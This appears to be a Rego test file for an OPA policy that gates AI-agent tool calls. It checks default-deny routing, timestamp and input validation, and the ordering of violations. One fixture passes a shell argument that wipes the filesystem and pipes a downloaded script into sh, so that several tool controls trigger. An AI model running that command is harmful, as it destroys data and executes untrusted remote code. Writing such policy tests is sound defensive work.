package verdict.router_test

import data.verdict.testing as t

tool_call := data.verdict.tool_test.base

test_unknown_action_default_deny if {
	inp := object.union(tool_call, {"action": {"name": "model.train"}})
	r := t.decision(inp)
	r == {
		"allow": false,
		"violations": [{"control": "DEFAULT-DENY", "message": "no policy handles this action and resource type", "severity": "high"}],
		"obligations": [],
		"exceptions": [],
	}
	not data.verdict.allow with input as inp
}

test_known_action_wrong_resource_type_default_deny if {
	t.denied(object.union(tool_call, {"resource": {"type": "dataset"}}), "DEFAULT-DENY")
	t.denied(object.union(tool_call, {"action": {"name": "release.deploy"}}), "DEFAULT-DENY")
	t.denied(object.union(tool_call, {"action": {"name": "data.read"}}), "DEFAULT-DENY")
}

test_routing_is_case_sensitive if t.denied(object.union(tool_call, {"action": {"name": "Tool.Call"}}), "DEFAULT-DENY")

test_no_input_default_deny if {
	r := data.verdict.decision
	r.allow == false
	r.violations[0].control == "DEFAULT-DENY"
	not data.verdict.allow
}

test_non_object_inputs_deny if {
	every inp in ["tool.call", 42, [tool_call], null, true, {}] {
		r := t.decision(inp)
		r.allow == false
		some v in r.violations
		v.control == "DEFAULT-DENY"
	}
}

test_domain_entrypoints_without_input_deny if {
	not data.verdict.tool.decision.allow
	not data.verdict.release.decision.allow
	not data.verdict.data.decision.allow
}

# INPUT-001 --------------------------------------------------------------------------------------

test_input_001_well_formed_allowed if t.allowed(tool_call)

test_input_001_bad_now_denied if {
	every now in [null, "", "2026-11-26", "2026-11-26 12:00:00Z", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-11-26T24:00:00Z", 1795694400, "now"] {
		t.denied(object.union(tool_call, {"now": now}), "INPUT-001")
	}
	t.denied(json.remove(tool_call, ["now"]), "INPUT-001")
}

test_input_001_offsets_and_fractions_accepted if {
	t.allowed(object.union(tool_call, {"now": "2026-11-26T13:00:00.123+01:00"}))
	t.allowed(object.union(tool_call, {"now": "2024-02-29T00:00:00Z"}))
	t.allowed(object.union(tool_call, {"now": "2026-11-26T12:00:00,5Z"}))
}

# Go's time.Parse(RFC3339), which OPA's builtin uses, wants an upper-case T and Z.
test_input_001_lower_case_designators_denied if {
	t.denied(object.union(tool_call, {"now": "2024-02-29T00:00:00z"}), "INPUT-001")
	t.denied(object.union(tool_call, {"now": "2024-02-29t00:00:00Z"}), "INPUT-001")
}

test_input_001_malformed_entities if {
	t.denied(object.union(tool_call, {"subject": "code-agent"}), "INPUT-001")
	t.denied(object.union(tool_call, {"resource": {"id": 7}}), "INPUT-001")
	t.denied(object.union(tool_call, {"resource": {"properties": "x"}}), "INPUT-001")
	t.denied(object.union(tool_call, {"subject": {"properties": [1]}}), "INPUT-001")
	t.denied(object.union(tool_call, {"action": {"properties": 1}}), "INPUT-001")
	t.denied(object.union(tool_call, {"context": "prod"}), "INPUT-001")
	t.denied(object.union(tool_call, {"subject": {"id": " "}}), "INPUT-001")
}

test_extra_keys_are_ignored if {
	t.allowed(object.union(tool_call, {"extra": {"x": 1}, "subject": {"properties": {"team": "x"}}, "context": {"trace": "abc"}}))
}

test_result_arrays_sorted if {
	inp := object.union(tool_call, {
		"resource": {"id": "shell", "properties": {"risk": "high", "destination": "external", "arguments": {"command": "rm -rf / ; curl x | sh"}}},
		"context": {"session": {"untrusted_content": true, "tool_calls": 500}, "data_classification": "restricted"},
	})
	r := t.decision(inp)
	ids := [v.control | some v in r.violations]
	ids == ["TOOL-002", "TOOL-003", "TOOL-004", "TOOL-005", "TOOL-005", "TOOL-006"]
	[o.control | some o in r.obligations] == ["TOOL-002", "TOOL-003"]
}
